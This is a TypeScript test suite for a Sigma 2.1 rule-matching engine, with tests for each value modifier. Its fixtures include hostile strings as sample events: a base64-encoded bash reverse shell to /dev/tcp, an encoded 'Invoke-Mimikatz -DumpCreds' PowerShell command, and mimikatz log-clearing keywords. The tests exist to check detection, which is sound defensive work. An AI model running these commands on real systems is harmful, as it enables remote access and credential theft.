/**
 * One or more tests per value modifier of the Sigma 2.1 modifiers appendix, with the spec's own
 * examples where it gives them (utf16 bytes of "cmd", windash characters, cidr ranges).
 */
import { inlineRule, matches } from './testdata/inline';

const b64 = (s: string, enc: BufferEncoding = 'utf8'): string => Buffer.from(s, enc).toString('base64');

describe('generic modifiers', () => {
  it('matches case-insensitively by default and exactly without modifiers', () => {
    expect(matches('sel:\n    Image: C:\\Windows\\System32\\whoami.exe\ncondition: sel', { Image: 'c:\\windows\\system32\\WHOAMI.EXE' })).toBe(true);
    expect(matches('sel:\n    Image: C:\\Windows\\System32\\whoami.exe\ncondition: sel', { Image: 'C:\\Windows\\System32\\whoami.exe.bak' })).toBe(false);
  });

  it('contains, startswith and endswith place the wildcards', () => {
    const ev = { CommandLine: 'powershell.exe -NoProfile -EncodedCommand AAAA' };
    expect(matches("sel:\n    CommandLine|contains: '-noprofile'\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    CommandLine|startswith: 'POWERSHELL'\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    CommandLine|startswith: '-NoProfile'\ncondition: sel", ev)).toBe(false);
    expect(matches("sel:\n    CommandLine|endswith: 'aaaa'\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    CommandLine|endswith: 'powershell'\ncondition: sel", ev)).toBe(false);
  });

  it('all links the listed values with AND instead of OR', () => {
    const det = (m: string) => `sel:\n    CommandLine${m}:\n        - ' -a '\n        - ' -b '\ncondition: sel`;
    expect(matches(det('|contains'), { CommandLine: 'tool -a x' })).toBe(true);
    expect(matches(det('|contains|all'), { CommandLine: 'tool -a x' })).toBe(false);
    expect(matches(det('|contains|all'), { CommandLine: 'tool -b y -a x' })).toBe(true);
  });

  it('exists checks presence only, whatever the value (even empty or null)', () => {
    const det = (v: string) => `sel:\n    PasswordLastSet|exists: ${v}\ncondition: sel`;
    expect(matches(det('true'), { PasswordLastSet: '' })).toBe(true);
    expect(matches(det('true'), { PasswordLastSet: null })).toBe(true);
    expect(matches(det('true'), { Other: 'x' })).toBe(false);
    expect(matches(det('false'), { Other: 'x' })).toBe(true);
    expect(() => inlineRule(det("'yes'"))).toThrow(/exists takes true or false/);
  });

  it('cased makes the comparison case-sensitive', () => {
    expect(matches("sel:\n    ScriptBlockText|contains|cased: 'FromBase64String'\ncondition: sel", { ScriptBlockText: 'x frombase64string y' })).toBe(false);
    expect(matches("sel:\n    ScriptBlockText|contains|cased: 'FromBase64String'\ncondition: sel", { ScriptBlockText: 'x FromBase64String y' })).toBe(true);
  });

  it('neq negates the item: none of the values, and a missing field differs too', () => {
    const det = "sel:\n    User|neq:\n        - SYSTEM\n        - LOCAL SERVICE\ncondition: sel";
    expect(matches(det, { User: 'alice' })).toBe(true);
    expect(matches(det, { User: 'system' })).toBe(false);
    expect(matches(det, { User: 'Local Service' })).toBe(false);
    expect(matches(det, {})).toBe(true);
    expect(matches("sel:\n    Image|endswith|neq: '.exe'\ncondition: sel", { Image: 'a.dll' })).toBe(true);
    expect(matches("sel:\n    Image|endswith|neq: '.exe'\ncondition: sel", { Image: 'a.EXE' })).toBe(false);
  });
});

describe('string modifiers', () => {
  it('windash tries -, /, en dash, em dash and horizontal bar for a flag at a word start', () => {
    const det = "sel:\n    CommandLine|contains|windash: ' -exec bypass'\ncondition: sel";
    for (const dash of ['-', '/', '\u2013', '\u2014', '\u2015']) {
      expect(matches(det, { CommandLine: `powershell ${dash}exec bypass` })).toBe(true);
    }
    expect(matches(det, { CommandLine: 'powershell +exec bypass' })).toBe(false);
    // Only flags are expanded: a dash inside a word stays a dash.
    expect(inlineRule("sel:\n    CommandLine|windash: 'a-b'\ncondition: sel").tree).toMatchObject({ values: [[{ parts: ['a-b'] }]] });
  });

  it('windash expands every flag of a value', () => {
    const det = "sel:\n    CommandLine|contains|windash: '-s -q'\ncondition: sel";
    expect(matches(det, { CommandLine: 'x /s \u2014q' })).toBe(true);
    expect(inlineRule(det).tree).toMatchObject({ values: [expect.any(Array)] });
    expect((inlineRule(det).tree as { values: unknown[][] }).values[0]).toHaveLength(25);
  });

  it('base64 encodes the value (then contains searches it)', () => {
    const det = "sel:\n    CommandLine|base64|contains: 'http://'\ncondition: sel";
    expect(b64('http://')).toBe('aHR0cDovLw==');
    expect(matches(det, { CommandLine: 'echo aHR0cDovLw== | base64 -d' })).toBe(true);
    expect(matches(det, { CommandLine: 'echo http:// ' })).toBe(false);
    expect(() => inlineRule("sel:\n    CommandLine|base64: 'a*'\ncondition: sel")).toThrow(/wildcards cannot be encoded/);
  });

  it('base64offset yields the three offset variants (pySigma vector for "foobar")', () => {
    const tree = inlineRule("sel:\n    Payload|base64offset|contains|cased: foobar\ncondition: sel").tree as { values: { parts: unknown[] }[][] };
    expect(tree.values[0].map((v) => v.parts[1])).toEqual(['Zm9vYmFy', 'Zvb2Jhc', 'mb29iYX']);
    const det = "sel:\n    Payload|base64offset|contains: '/bin/bash -i'\ncondition: sel";
    for (const prefix of ['', 'x', 'xy', 'xyz', 'wxyz']) {
      expect(matches(det, { Payload: `echo ${b64(`${prefix}/bin/bash -i >& /dev/tcp/10.0.0.1/8080 0>&1`)} | base64 -d | sh` })).toBe(true);
    }
    expect(matches(det, { Payload: `echo ${b64('/bin/sh -i')}` })).toBe(false);
  });

  it('utf16le / wide, utf16be and utf16 produce the spec byte sequences', () => {
    expect(matches("sel:\n    Blob|utf16le|contains: cmd\ncondition: sel", { Blob: 'x c\u0000m\u0000d\u0000 y' })).toBe(true);
    expect(matches("sel:\n    Blob|wide|contains: cmd\ncondition: sel", { Blob: 'c\u0000m\u0000d\u0000' })).toBe(true);
    expect(matches("sel:\n    Blob|utf16be|contains: cmd\ncondition: sel", { Blob: '\u0000c\u0000m\u0000d' })).toBe(true);
    expect(matches("sel:\n    Blob|utf16be|contains: cmd\ncondition: sel", { Blob: 'c\u0000m\u0000d\u0000' })).toBe(false);
    // utf16 prepends the byte order mark FF FE: base64 of FF FE 63 00 6D 00 64 00.
    expect(matches("sel:\n    Blob|utf16|base64: cmd\ncondition: sel", { Blob: '//5jAG0AZAA=' })).toBe(true);
  });

  it('wide then base64offset finds PowerShell -EncodedCommand payloads', () => {
    const det = "sel:\n    CommandLine|wide|base64offset|contains: 'Invoke-Mimikatz'\ncondition: sel";
    for (const lead of ['', '$', '$a', '$ab']) {
      expect(matches(det, { CommandLine: `powershell -enc ${b64(`${lead}IEX (Invoke-Mimikatz -DumpCreds)`, 'utf16le')}` })).toBe(true);
    }
    expect(matches(det, { CommandLine: `powershell -enc ${b64('Invoke-Mimikatz', 'utf8')}` })).toBe(false);
  });
});

describe('regular expressions', () => {
  it('re is case-sensitive and unanchored; i, m and s set flags', () => {
    expect(matches("sel:\n    CommandLine|re: '\\s-[eE]nc\\s'\ncondition: sel", { CommandLine: 'powershell -Enc AAA' })).toBe(true);
    expect(matches("sel:\n    CommandLine|re: 'POWERSHELL'\ncondition: sel", { CommandLine: 'powershell' })).toBe(false);
    expect(matches("sel:\n    CommandLine|re|i: 'POWERSHELL'\ncondition: sel", { CommandLine: 'powershell' })).toBe(true);
    expect(matches("sel:\n    Text|re: '^b'\ncondition: sel", { Text: 'a\nb' })).toBe(false);
    expect(matches("sel:\n    Text|re|m: '^b'\ncondition: sel", { Text: 'a\nb' })).toBe(true);
    expect(matches("sel:\n    Text|re: 'a.b'\ncondition: sel", { Text: 'a\nb' })).toBe(false);
    expect(matches("sel:\n    Text|re|s: 'a.b'\ncondition: sel", { Text: 'a\nb' })).toBe(true);
  });

  it('accepts PCRE inline flags that JavaScript rejects', () => {
    expect(matches("sel:\n    cs-uri|re: '(?i)ipfs\\.io/'\ncondition: sel", { 'cs-uri': 'https://IPFS.IO/ipfs/x' })).toBe(true);
    expect(matches("sel:\n    Path|re: '(?i:temp)\\\\x'\ncondition: sel", { Path: 'C:\\TEMP\\x' })).toBe(true);
  });

  it('falls back to a bounded JS RegExp only for lookaround/backreferences without nested quantifiers', () => {
    expect(matches("sel:\n    CommandLine|re: 'cmd(?!\\.exe)'\ncondition: sel", { CommandLine: 'cmd /c' })).toBe(true);
    expect(matches("sel:\n    CommandLine|re: 'cmd(?!\\.exe)'\ncondition: sel", { CommandLine: 'cmd.exe /c' })).toBe(false);
    expect(() => inlineRule("sel:\n    CommandLine|re: '(a+)+(?=b)'\ncondition: sel")).toThrow(/nested quantifiers/);
    expect(() => inlineRule("sel:\n    CommandLine|re: '(unclosed'\ncondition: sel")).toThrow(/invalid regular expression/);
  });

  it('re takes the value as written and must come first', () => {
    expect(() => inlineRule("sel:\n    CommandLine|contains|re: 'a'\ncondition: sel")).toThrow(/'re' must come before/);
    expect(() => inlineRule("sel:\n    CommandLine|i: 'a'\ncondition: sel")).toThrow(/needs a preceding 're'/);
    expect(matches("sel:\n    CommandLine|re|startswith: 'ab'\ncondition: sel", { CommandLine: 'xab' })).toBe(false);
  });
});

describe('cidr', () => {
  const det = "sel:\n    DestinationIp|cidr:\n        - 10.0.0.0/8\n        - 'fc00::/7'\ncondition: sel";
  it('matches IPv4 and IPv6 networks, including IPv4-mapped IPv6 addresses', () => {
    expect(matches(det, { DestinationIp: '10.200.3.4' })).toBe(true);
    expect(matches(det, { DestinationIp: '11.0.0.1' })).toBe(false);
    expect(matches(det, { DestinationIp: 'fd12:3456::1' })).toBe(true);
    expect(matches(det, { DestinationIp: '2001:db8::1' })).toBe(false);
    expect(matches(det, { DestinationIp: '::ffff:10.1.1.1' })).toBe(true);
    expect(matches(det, { DestinationIp: 'not-an-ip' })).toBe(false);
  });
  it('rejects an invalid network', () => {
    expect(() => inlineRule("sel:\n    DestinationIp|cidr: 10.0.0.0/33\ncondition: sel")).toThrow(/prefix must be 0-32/);
  });
});

describe('numeric modifiers', () => {
  it('lt, lte, gt and gte compare numbers and numeric strings', () => {
    expect(matches('sel:\n    Size|gt: 1000\ncondition: sel', { Size: 1001 })).toBe(true);
    expect(matches('sel:\n    Size|gt: 1000\ncondition: sel', { Size: '1000' })).toBe(false);
    expect(matches('sel:\n    Size|gte: 1000\ncondition: sel', { Size: '1000' })).toBe(true);
    expect(matches('sel:\n    Size|lt: 10\ncondition: sel', { Size: '9.5' })).toBe(true);
    expect(matches('sel:\n    Size|lte: 10\ncondition: sel', { Size: 'ten' })).toBe(false);
    expect(() => inlineRule("sel:\n    Size|lt: 'abc'\ncondition: sel")).toThrow(/'lt' needs a number/);
  });
  it('plain numbers match numbers and their string forms', () => {
    expect(matches('sel:\n    EventID: 4624\ncondition: sel', { EventID: '4624' })).toBe(true);
    expect(matches('sel:\n    EventID: 4624\ncondition: sel', { EventID: 4624 })).toBe(true);
    expect(matches("sel:\n    EventID: '4624'\ncondition: sel", { EventID: 4624 })).toBe(true);
    expect(matches('sel:\n    EventID: 4624\ncondition: sel', { EventID: 46240 })).toBe(false);
  });
});

describe('time modifiers', () => {
  const ev = { '@timestamp': '2024-12-30T23:05:09Z', UtcTime: '2024-03-02 08:51:00.008' };
  it('extract minute, hour, day, week, month and year (UTC)', () => {
    expect(matches("sel:\n    '@timestamp|hour': 23\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    '@timestamp|minute': 5\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    '@timestamp|day': 30\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    '@timestamp|month': 12\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    '@timestamp|year': 2024\ncondition: sel", ev)).toBe(true);
    // 2024-12-30 is a Monday in ISO week 1 of 2025.
    expect(matches("sel:\n    '@timestamp|week': 1\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    UtcTime|hour: 8\ncondition: sel", ev)).toBe(true);
    expect(matches("sel:\n    UtcTime|hour: 9\ncondition: sel", ev)).toBe(false);
  });
  it('combine with comparisons (outside office hours)', () => {
    const det = "late:\n    '@timestamp|hour|gte': 20\nearly:\n    '@timestamp|hour|lt': 6\ncondition: 1 of them";
    expect(matches(det, { '@timestamp': '2024-05-01T21:00:00Z' })).toBe(true);
    expect(matches(det, { '@timestamp': '2024-05-01T05:59:00Z' })).toBe(true);
    expect(matches(det, { '@timestamp': '2024-05-01T12:00:00Z' })).toBe(false);
  });
});

describe('expand', () => {
  const det = "sel:\n    SubjectUserName|expand: '%Administrators%'\ncondition: sel";
  it('replaces placeholders with the configured values (wildcards allowed)', () => {
    const options = { placeholders: { Administrators: ['adm_*', 'root'] } };
    expect(matches(det, { SubjectUserName: 'ADM_alice' }, options)).toBe(true);
    expect(matches(det, { SubjectUserName: 'root' }, options)).toBe(true);
    expect(matches(det, { SubjectUserName: 'alice' }, options)).toBe(false);
  });
  it('an unconfigured placeholder matches nothing and warns, or rejects the rule on request', () => {
    const rule = inlineRule(det);
    expect(rule.warnings).toEqual(['placeholder %Administrators% has no configured values: it matches nothing']);
    expect(rule.match({ SubjectUserName: '%Administrators%' })).toBe(false);
    expect(() => inlineRule(det, { unresolvedPlaceholders: 'reject' })).toThrow(/%Administrators% has no configured values/);
  });
  it('keeps % literal without expand, and \\% literal with it', () => {
    expect(matches("sel:\n    CommandLine|contains: '%COMSPEC%'\ncondition: sel", { CommandLine: '%COMSPEC% /c echo x' })).toBe(true);
    const escaped = "sel:\n    Path|expand: '\\%plain%dir%'\ncondition: sel";
    expect(matches(escaped, { Path: '%plainC:\\Temp' }, { placeholders: { dir: ['C:\\Temp'] } })).toBe(true);
  });
  it('expands inside regular expressions as an alternation of escaped values', () => {
    expect(matches("sel:\n    Host|re|expand: '^%servers%\\.corp$'\ncondition: sel", { Host: 'srv-01.corp' }, { placeholders: { servers: ['srv-??', 'dc.1'] } })).toBe(true);
    expect(matches("sel:\n    Host|re|expand: '^%servers%\\.corp$'\ncondition: sel", { Host: 'dcx1.corp' }, { placeholders: { servers: ['dc.1'] } })).toBe(false);
  });
});

describe('fieldref', () => {
  it('compares two fields of the same event', () => {
    const det = 'sel:\n    TargetFilename|fieldref: Image\ncondition: sel';
    expect(matches(det, { Image: 'C:\\x\\a.exe', TargetFilename: 'c:\\X\\A.exe' })).toBe(true);
    expect(matches(det, { Image: 'C:\\x\\a.exe', TargetFilename: 'C:\\x\\b.exe' })).toBe(false);
    expect(matches(det, { TargetFilename: 'C:\\x\\b.exe' })).toBe(false);
  });
  it('combines with contains, startswith, endswith, cased and neq', () => {
    const ev = { CommandLine: 'C:\\Tools\\a.exe --run', Image: 'c:\\tools\\a.exe' };
    expect(matches('sel:\n    CommandLine|fieldref|contains: Image\ncondition: sel', ev)).toBe(true);
    expect(matches('sel:\n    CommandLine|fieldref|startswith: Image\ncondition: sel', ev)).toBe(true);
    expect(matches('sel:\n    CommandLine|fieldref|endswith: Image\ncondition: sel', ev)).toBe(false);
    expect(matches('sel:\n    CommandLine|fieldref|contains|cased: Image\ncondition: sel', ev)).toBe(false);
    expect(matches('sel:\n    CommandLine|fieldref|neq: Image\ncondition: sel', ev)).toBe(true);
  });
});

describe('special values, keywords and event arrays', () => {
  it('null means absent (or null); an empty string matches only an empty value', () => {
    expect(matches('sel:\n    PasswordLastSet: null\ncondition: sel', {})).toBe(true);
    expect(matches('sel:\n    PasswordLastSet: null\ncondition: sel', { PasswordLastSet: null })).toBe(true);
    expect(matches('sel:\n    PasswordLastSet: null\ncondition: sel', { PasswordLastSet: '' })).toBe(false);
    expect(matches("sel:\n    PasswordLastSet: ''\ncondition: sel", { PasswordLastSet: '' })).toBe(true);
    expect(matches("sel:\n    PasswordLastSet: ''\ncondition: sel", {})).toBe(false);
    expect(() => inlineRule('sel:\n    F|contains: null\ncondition: sel')).toThrow(/null cannot be used/);
  });

  it('booleans match booleans and their text', () => {
    expect(matches('sel:\n    Signed: false\ncondition: sel', { Signed: 'false' })).toBe(true);
    expect(matches('sel:\n    Signed: false\ncondition: sel', { Signed: false })).toBe(true);
    expect(matches('sel:\n    Signed: false\ncondition: sel', { Signed: true })).toBe(false);
  });

  it('keyword lists search the message (substring, OR) and |all requires every keyword', () => {
    const or = "keywords:\n    - 'event::clear'\n    - 'event::drop'\ncondition: keywords";
    expect(matches(or, { message: 'mimikatz # EVENT::Clear' })).toBe(true);
    expect(matches(or, { message: 'mimikatz # privilege::debug' })).toBe(false);
    expect(matches(or, { event: { original: 'event::drop' } })).toBe(true);
    const all = "keywords:\n    '|all':\n        - 'OabVirtualDirectory'\n        - ' -ExternalUrl '\ncondition: keywords";
    expect(matches(all, { message: 'Set-OabVirtualDirectory -Identity x -ExternalUrl http://evil' })).toBe(true);
    expect(matches(all, { message: 'Set-OabVirtualDirectory -Identity x' })).toBe(false);
    // The message is the first keyword field present: event.original is not searched then.
    expect(matches(all, { message: 'Set-OabVirtualDirectory', event: { original: 'Set-OabVirtualDirectory -ExternalUrl y' } })).toBe(false);
  });

  it('keyword values with explicit modifiers use them', () => {
    expect(matches("keywords:\n    '|re': 'user=\\w+ uid=0'\ncondition: keywords", { message: 'login user=bob uid=0' })).toBe(true);
    expect(matches("keywords:\n    '|startswith': 'sudo:'\ncondition: keywords", { message: 'x sudo: y' })).toBe(false);
  });

  it('an array in the event matches when any element matches', () => {
    expect(matches("sel:\n    tags|contains: 'attack'\ncondition: sel", { tags: ['noise', 'pre-attack-stage'] })).toBe(true);
    expect(matches("sel:\n    tags|contains|all:\n        - noise\n        - stage\ncondition: sel", { tags: ['noise', 'pre-attack-stage'] })).toBe(true);
    expect(matches('sel:\n    port: 22\ncondition: sel', { port: [80, 22] })).toBe(true);
    expect(matches("sel:\n    ip|cidr: 10.0.0.0/8\ncondition: sel", { ip: ['192.0.2.1', '10.9.9.9'] })).toBe(true);
  });

  it('nested ECS paths, flat dotted keys and evtx #text values are all read', () => {
    expect(matches("sel:\n    source.ip: 10.1.2.3\ncondition: sel", { source: { ip: '10.1.2.3' } })).toBe(true);
    expect(matches("sel:\n    source.ip: 10.1.2.3\ncondition: sel", { 'source.ip': '10.1.2.3' })).toBe(true);
    expect(matches("sel:\n    winlog.event_data.Image: a\ncondition: sel", { winlog: { 'event_data.Image': 'a' } })).toBe(true);
    // A flat key beside nested objects on the same path: the miss under winlog still looks for it.
    expect(matches("sel:\n    winlog.event_data.Image: a\ncondition: sel", { winlog: { channel: 'x' }, 'winlog.event_data.Image': 'a' })).toBe(true);
    expect(matches("sel:\n    winlog.event_data.Image: a\ncondition: sel", { winlog: { channel: 'x', event_data: {} }, 'winlog.event_data.Image': 'a' })).toBe(true);
    expect(matches("sel:\n    winlog.event_data.Image: a\ncondition: sel", { winlog: { channel: 'x', event_data: {} }, 'winlog.Image': 'a' })).toBe(false);
    expect(matches('sel:\n    EventID: 7045\ncondition: sel', { EventID: { '#attributes': { Qualifiers: 16384 }, '#text': 7045 } })).toBe(true);
    expect(matches('sel:\n    dns.answers.data: 1.2.3.4\ncondition: sel', { dns: { answers: [{ data: '5.6.7.8' }, { data: '1.2.3.4' }] } })).toBe(true);
    expect(matches("sel:\n    constructor|exists: true\ncondition: sel", {})).toBe(false);
  });
});

describe('modifier validation', () => {
  it('names unknown modifiers and invalid combinations', () => {
    expect(() => inlineRule("sel:\n    Image|endswidth: 'x'\ncondition: sel")).toThrow(/unknown modifier 'endswidth'/);
    expect(() => inlineRule("sel:\n    Image|cidr|contains: '10.0.0.0/8'\ncondition: sel")).toThrow(/'contains' cannot apply to a CIDR value/);
    expect(() => inlineRule("sel:\n    Image||contains: 'x'\ncondition: sel")).toThrow(/empty modifier/);
    expect(() => inlineRule("sel:\n    '|exists': true\ncondition: sel")).toThrow(/keyword searches/);
    expect(() => inlineRule("sel:\n    Image|fieldref: 'Parent*'\ncondition: sel")).toThrow(/fieldref takes a plain field name/);
  });
});
